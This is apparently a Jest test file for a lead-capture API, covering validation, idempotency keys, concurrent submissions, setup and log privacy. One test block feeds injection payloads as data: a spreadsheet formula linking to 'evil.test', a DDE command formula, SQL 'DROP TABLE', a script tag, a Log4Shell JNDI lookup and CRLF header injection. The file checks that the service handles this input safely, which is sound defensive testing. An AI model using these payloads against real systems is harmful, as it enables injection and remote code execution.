import { randomUUID } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { noCrmReason } from '@portfolio/contracts/leads/leads.ts';
import { eventually } from '../../../tests/support/eventually.ts';
import { createTestDatabase } from '../../../tests/support/database.ts';
import { enquiry, startLeads } from './support/leads-under-test.ts';
import { leads } from './support/leads-of-file.ts';

const send = (body: unknown, headers: Record<string, string> = {}) =>
  leads.post('/api/crm/send', body, headers);

describe('an enquiry', () => {
  it('is accepted with an id, and kept while no CRM is configured', async () => {
    const body = enquiry();
    const answer = await send(body);
    expect(answer.status).toBe(202);
    expect(await leads.find(answer.body.id)).toEqual({
      id: answer.body.id,
      ...body,
      ...{ consent: null, answers: [], journey: null, language: null, value: null },
      state: 'pending',
      reason: noCrmReason,
      attempts: [],
      createdAt: expect.stringMatching(/^2\d{3}-.*Z$/),
      deliveredAt: null,
      answeredAt: null,
      answeredBy: null,
      ...{ assignedTo: null, assignedBy: null, assignedAt: null },
      reference: expect.stringMatching(/^[2-9A-HJ-NP-Z]{4}-[2-9A-HJ-NP-Z]{4}$/),
      deliveries: [],
      ...{ stage: 'new', respondBy: expect.any(String) },
      spam: { score: 0, reasons: [] },
    });
  });

  it('can come by the other path as well', async () => {
    const body = enquiry();
    const answer = await leads.post('/api/contact/send-message', body);
    expect(answer.status).toBe(202);
    expect(await leads.find(answer.body.id)).toMatchObject(body);
  });

  it('is the same however its JSON is announced', async () => {
    const body = enquiry();
    const one = await send(body);
    const other = await send(body, { 'Content-Type': 'application/json; charset="utf-8"' });
    expect(one.status).toBe(202);
    expect(other).toMatchObject({ status: 202, text: one.text });
    const essence = ({ headers }: typeof one) =>
      [...headers].filter(([name]) => name !== 'x-request-id' && name !== 'date');
    expect(essence(other)).toEqual(essence(one));
  });

  it('is refused with the messages of the form where a rule is broken', async () => {
    const answer = await send({ firstName: 'A', email: 'nobody', phone: '123', notes: 'short' });
    expect(answer.status).toBe(422);
    expect(answer.body).toMatchObject({
      code: 'invalidInput',
      fields: {
        firstName: 'Full name is required',
        email: 'Enter a valid email',
        phone: 'Phone number must be at least 10 digits',
        notes: 'Please describe your project idea',
      },
    });
  });

  it('is refused with a field that is not known, too much text, or no JSON', async () => {
    expect((await send({ ...enquiry(), isAdmin: true })).status).toBe(422);
    expect((await send({ ...enquiry(), notes: 'x'.repeat(5001) })).status).toBe(422);
    expect((await send({ ...enquiry(), notes: 'x'.repeat(1024 * 1024) })).status).toBe(413);
    expect((await send('{"firstName":')).status).toBe(400);
    expect((await send(enquiry(), { 'Content-Type': 'text/plain' })).status).toBe(415);
  });
});

describe('an Idempotency-Key', () => {
  it('T49: makes one enquiry of a hundred at once', async () => {
    const body = enquiry();
    const key = randomUUID();
    const answers = await Promise.all(
      Array.from({ length: 100 }, () => send(body, { 'Idempotency-Key': key })),
    );
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([202]));
    expect(new Set(answers.map(({ text }) => text)).size).toBe(1);
    expect((await leads.list()).filter(({ email }) => email === body.email)).toHaveLength(1);
  });

  it('is refused for another enquiry', async () => {
    const key = randomUUID();
    const first = await send(enquiry(), { 'Idempotency-Key': key });
    const second = await send(enquiry(), { 'Idempotency-Key': key });
    expect(first.status).toBe(202);
    expect(second.status).toBe(409);
    expect(second.body.code).toBe('idempotencyKeyReused');
  });

  it('lets somebody say the same twice', async () => {
    const body = enquiry();
    const first = await send(body, { 'Idempotency-Key': randomUUID() });
    const second = await send(body, { 'Idempotency-Key': randomUUID() });
    expect(second.status).toBe(202);
    expect(second.body.id).not.toBe(first.body.id);
  });

  it('is refused where it is empty of sense', async () => {
    const answer = await send(enquiry(), { 'Idempotency-Key': 'two words' });
    expect(answer.status).toBe(400);
    expect(answer.body.fields).toHaveProperty('idempotency-key');
  });
});

describe('many enquiries at once', () => {
  it('are each stored once, with or without a key, under the id that was answered', async () => {
    const bodies = Array.from({ length: 60 }, () => enquiry());
    const answers = await Promise.all(
      [...bodies, ...bodies.slice(0, 20)].map((body, index) =>
        // Of those that come once, every third has a key.
        send(body, index % 60 < 20 || index % 3 > 0 ? {} : { 'Idempotency-Key': `many-${String(index)}` }),
      ),
    );
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([202]));
    const ids = answers.map(({ body: { id } }) => id);
    expect(ids.slice(60)).toEqual(ids.slice(0, 20));
    const stored = new Map((await leads.list()).map((one) => [one.id, one]));
    for (const [index, body] of bodies.entries()) expect(stored.get(ids[index] ?? '')).toMatchObject(body);
    expect(new Set(ids).size).toBe(60);
  });
});

describe('the same content without a key', () => {
  it('is one enquiry, however many arrive at once', async () => {
    const body = enquiry();
    const answers = await Promise.all(Array.from({ length: 20 }, () => send(body)));
    expect(new Set(answers.map(({ body: { id } }) => id)).size).toBe(1);
    expect((await leads.list()).filter(({ email }) => email === body.email)).toHaveLength(1);
  });

  it('is another enquiry where a single letter differs', async () => {
    const body = enquiry();
    const first = await send(body);
    const second = await send({ ...body, notes: `${body.notes}!` });
    expect(second.body.id).not.toBe(first.body.id);
  });
});

describe('text that would do harm elsewhere', () => {
  const lines = [
    '=HYPERLINK("http://evil.test","x")',
    '@SUM(1+1)*cmd|"/c calc"!A1',
    "Robert'); DROP TABLE enquiries;--",
    '<script>alert(1)</script>',
    '${jndi:ldap://evil.test/a}',
    '"quoted","cells";next',
    'Zoë 王 👩‍🚀 ‮reversed',
    '%0d%0aBcc: all@example.com',
  ];

  it.each(lines)('T48: is stored as it was written: %s', async (text) => {
    const body = enquiry({ firstName: text, notes: `${text}\n\tsecond line, ${text}` });
    const answer = await send(body);
    expect(answer.status).toBe(202);
    expect(await leads.find(answer.body.id)).toMatchObject(body);
  });

  it.each([
    'a\r\nBcc: all@example.com',
    'nul\u0000byte',
    'esc\u001b[31m',
    'half \ud800 pair',
    'csi \u009b31m',
  ])('is refused in a name: %j', async (text) => {
    const answer = await send(enquiry({ firstName: text }));
    expect(answer.status).toBe(422);
    expect(answer.body.fields).toHaveProperty('firstName');
  });

  it.each(['nul \u0000 in ten characters', 'half \udc00 a pair of them', 'esc \u001b[31m red letters'])(
    'is refused in the notes: %j',
    async (notes) => {
      expect((await send(enquiry({ notes }))).status).toBe(422);
    },
  );

  it('is refused in an e-mail address or a phone number', async () => {
    expect((await send(enquiry({ email: 'a@b.cd\r\nBcc: x@y.zz' }))).status).toBe(422);
    expect((await send(enquiry({ phone: '+44 20 7946\n0000' }))).status).toBe(422);
  });
});

describe('before the platform is set up', () => {
  it('enquiries are refused with 503, until a connection is there', async () => {
    const early = await startLeads({});
    const own = await createTestDatabase();
    try {
      const answer = await early.post('/api/crm/send', enquiry());
      expect(answer.status).toBe(503);
      expect(answer.body.code).toBe('notSetUp');

      const { host, port, database: name, user, password } = own;
      const connection = JSON.stringify({ host, port, database: name, user, password });
      writeFileSync(join(early.configDir, 'connection.json'), connection, { mode: 0o600 });
      expect((await early.migrate()).status).toBe(204);
      expect((await early.post('/api/crm/send', enquiry())).status).toBe(202);
    } finally {
      await early.stop();
      await own.drop();
    }
  });

  it('only another service may have the schema migrated', async () => {
    expect((await leads.get('/internal/migrate', 'stranger')).status).toBe(401);
    expect((await leads.postAsAdministrator('/internal/migrate')).body.code).toBe('untrustedCaller');
  });
});

describe('logs and metrics', () => {
  it('hold nothing of what a visitor wrote', async () => {
    const robin = enquiry({
      firstName: 'Robinname',
      email: 'robinmail@example.com',
      phone: '0800robinphone',
      notes: 'robinnotes in these notes',
    });
    await send(robin, { 'Idempotency-Key': 'robinkey-1' });
    await send({ ...robin, notes: 'other robinnotes' }, { 'Idempotency-Key': 'robinkey-1' });
    await send({ ...robin, email: 'robinmail@' });
    await send(`{"firstName":"Robinname`);
    await leads.get('/api/leads?cursor=robincursor');
    const metrics = await eventually(async () => {
      const { text } = await leads.get('/metrics', 'stranger');
      expect(text).toMatch(/leads_deliveries_pending{[^}]*} [1-9]/);
      return text;
    });
    expect(metrics).toMatch(/leads_oldest_pending_seconds{[^}]*} \d/);
    expect(metrics).toMatch(/leads_deliveries_failed{[^}]*} 0/);
    expect(leads.logs.length).toBeGreaterThan(5);
    expect(leads.logs.join('') + metrics).not.toMatch(/robin/i);
  });
});
